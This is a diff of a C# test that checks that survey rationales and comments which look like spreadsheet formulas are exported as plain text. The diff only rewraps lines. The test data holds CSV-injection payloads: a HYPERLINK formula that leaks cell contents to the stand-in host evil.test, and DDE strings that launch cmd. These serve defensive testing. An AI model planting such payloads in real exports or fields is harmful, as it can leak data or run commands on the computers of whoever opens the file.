@@ -15,13 +15,16 @@ public sealed class ExportSafetyTests : IDisposable
     public async Task Rationales_and_comments_that_look_like_formulas_are_exported_as_text()
     {
         var study = await QuickStudy.CreateAsync(_app, experts: 3,
-            yaml: Api.Survey("quick-start.yaml").Replace("en: Quick foresight survey on quantum and AI technologies", "en: \"=HYPERLINK(\\\"http://evil.test\\\")\""));
-        string[] attacks = ["=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
+            yaml: Api.Survey("quick-start.yaml").Replace("en: Quick foresight survey on quantum and AI technologies",
+                "en: \"=HYPERLINK(\\\"http://evil.test\\\")\""));
+        string[] attacks = ["=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
         for (int e = 0; e < 3; e++)
             await study.AnswerAsync(e, "Q-T01", QuickStudy.Answer(5 + e, rationale: attacks[e * 2]));
         await study.AnswerAsync(0, "Q-T02", new
         {
-            answers = new Dictionary<string, object> { ["familiarity"] = 3, ["importance"] = 6, ["feasibility"] = 7, ["realization_year"] = 2035, ["comment"] = attacks[1] },
+            answers = new Dictionary<string, object> { ["familiarity"] = 3, ["importance"] = 6, ["feasibility"] = 7, ["realization_year"] = 2035,
+                ["comment"] = attacks[1] },
             rationales = new Dictionary<string, string> { ["importance"] = attacks[3], ["realization_year"] = attacks[5] },
         });
         await study.CloseAsync(1);
